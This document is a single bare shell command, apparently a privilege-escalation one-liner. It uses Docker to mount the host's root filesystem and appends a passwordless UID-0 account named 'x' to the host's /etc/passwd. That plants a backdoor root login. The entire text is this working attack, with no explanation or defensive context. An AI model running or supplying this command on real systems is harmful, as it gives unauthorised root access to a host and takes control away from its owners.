docker run --rm -v /:/h alpine sh -c "echo 'x::0:0::/root:/bin/sh' >> /h/etc/passwd"
